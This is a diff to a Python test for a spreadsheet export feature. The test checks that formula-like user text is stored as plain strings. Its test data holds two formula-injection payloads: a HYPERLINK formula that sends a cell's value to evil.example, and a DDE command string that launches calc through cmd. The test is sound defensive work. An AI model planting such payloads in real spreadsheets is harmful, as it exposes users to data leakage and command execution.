@@ -130,15 +130,18 @@ def test_the_bases_sheet_has_one_row_per_base_and_a_hidden_code_row(catalogue):
 
 def test_formula_like_text_is_exported_as_text_not_as_a_formula(catalogue):
     attack = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
-    report = make_report("B3-012", make_period(2025), NOTE=attack)
-    report.values.filter(indicator__code="NOTE").update(explanation="+cmd|' /C calc'!A0")
+    report = make_report("B3-012", make_period(2025), NOTE=attack, JOBS=900)
+    report.values.filter(indicator__code="JOBS").update(
+        flags=[{"kind": "peer", "median": "90 人", "z": "9.0"}], explanation="+cmd|' /C calc'!A0"
+    )
 
     data = report_workbook(report)
 
     sheet = open_xlsx(data)["填报数据"]
     note = next(row for row in sheet.iter_rows(min_row=4) if row[0].value == "NOTE")
+    jobs = next(row for row in sheet.iter_rows(min_row=4) if row[0].value == "JOBS")
     assert (note[3].value, note[3].data_type) == (attack, "s")
-    assert (note[5].value, note[5].data_type) == ("+cmd|' /C calc'!A0", "s")
+    assert (jobs[5].value, jobs[5].data_type) == ("+cmd|' /C calc'!A0", "s")
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
 
